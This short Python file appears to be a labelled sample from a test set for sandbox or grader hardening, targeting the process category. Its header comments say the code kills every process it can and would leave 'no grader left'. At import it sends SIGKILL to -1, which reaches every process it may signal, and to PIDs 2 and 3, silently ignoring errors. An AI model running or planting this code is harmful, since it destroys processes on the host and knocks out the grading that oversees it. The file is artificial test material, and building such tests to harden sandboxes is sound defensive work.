# class: processes
# harm: kills every process that it may
# shown: the grader would be gone
# score: 3
# unprotected: no grader left

import os
import signal


for target in (-1, 2, 3):
    try:
        os.kill(target, signal.SIGKILL) if target != os.getpid() else None
    except OSError:
        pass


def fork_once(in_child, in_parent):
    pid = os.fork()
    if pid == 0:
        try:
            in_child()
        finally:
            os._exit(0)
    in_parent(pid)
    os.waitpid(pid, 0)
